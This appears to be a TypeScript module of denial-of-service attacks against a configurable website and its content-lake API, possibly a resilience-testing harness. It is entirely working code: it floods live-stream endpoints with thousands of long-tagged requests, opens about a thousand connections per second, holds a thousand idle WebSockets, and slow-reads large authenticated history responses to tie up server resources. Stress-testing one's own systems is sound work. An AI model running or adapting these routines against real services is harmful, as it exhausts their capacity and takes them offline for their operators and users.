import { once } from "node:events";
import type { IncomingMessage } from "node:http";
import { setTimeout as pause } from "node:timers/promises";
import { WebSocket } from "ws";
import { attacker, authorized, repeat, send } from "./client.ts";
import type { Attack, AttackContext } from "./target.ts";

/** Number of live streams of the site, and of stream sockets of the lake. */
const STREAMS = 3_000;
const SOCKETS = 1_000;

/** Time between two attempts to open a stream or a socket that was refused or ended, in ms. */
const AGAIN = 10_000;

/** Holds a number of things open, and opens each again after it ends. */
async function hold(count: number, { signal }: AttackContext, open: (n: number) => Promise<void>) {
  const keep = async (n: number) => {
    // A thousand each second.
    await pause(n, undefined, { signal }).catch(() => undefined);
    while (!signal.aborted) {
      await open(n);
      await pause(AGAIN, undefined, { signal }).catch(() => undefined);
    }
  };
  await Promise.all(Array.from({ length: count }, (_, n) => keep(n)));
}

/** Live streams of the site, each with 128 tags. */
export const live: Attack = (context) => {
  const { target, signal, count } = context;
  return hold(STREAMS, context, async (n) => {
    const tags = Array.from({ length: 128 }, (_, tag) => `flood-${n}-${tag}-${"x".repeat(40)}`);
    const url = `${target.site}/api/live?since=${Date.now()}&tags=${tags.join(",").slice(0, 7_000)}`;
    const onResponse = (response: IncomingMessage) => {
      count(response.statusCode ?? 0);
      response.resume();
    };
    await send(url.replace(/,[^,]*$/, ""), { onResponse }, signal);
  });
};

/** Time between two groups of new connections in ms, and their number: a thousand each second. */
const ARRIVAL = { every: 10, count: 10 };

/** Connections to the site, each of which requests one page. */
export const connections: Attack = async ({ target, signal, count }) => {
  const headers = { connection: "close" };
  while (!signal.aborted) {
    for (let n = 0; n < ARRIVAL.count; n += 1) {
      const page = target.pages[n % target.pages.length] ?? "/en";
      void send(new URL(page, target.site).href, { headers }, signal).then(count);
    }
    await pause(ARRIVAL.every, undefined, { signal }).catch(() => undefined);
  }
};

/** Anonymous stream sockets of the lake, which send nothing. */
export const sockets: Attack = (context) => {
  const { target, signal, count } = context;
  const url = `${target.lake.replace("http", "ws")}/streams`;
  return hold(SOCKETS, context, async () => {
    if (signal.aborted) return;
    const socket = new WebSocket(url, { headers: attacker });
    const end = () => socket.terminate();
    signal.addEventListener("abort", end, { once: true });
    socket.on("error", () => undefined);
    socket.once("unexpected-response", (_, response) => {
      count(response.statusCode ?? 0);
      socket.terminate();
    });
    socket.once("open", () => count(101));
    await once(socket, "close").catch(() => undefined);
    signal.removeEventListener("abort", end);
  });
};

/** Long histories, of which the client reads nothing. */
export const history: Attack = (context) => {
  const { target, signal } = context;
  const url = `${target.lake}/v2025-02-19/data/history/production/transactions/${target.history}`;
  const headers = authorized(target.tokens.editor);
  // Ends a response when it has waited for a while.
  const onResponse = (response: IncomingMessage) => {
    response.pause();
    setTimeout(() => response.destroy(), 5_000).unref();
  };
  return repeat(100, context, () =>
    send(`${url}?excludeContent=false`, { headers, onResponse }, signal),
  );
};
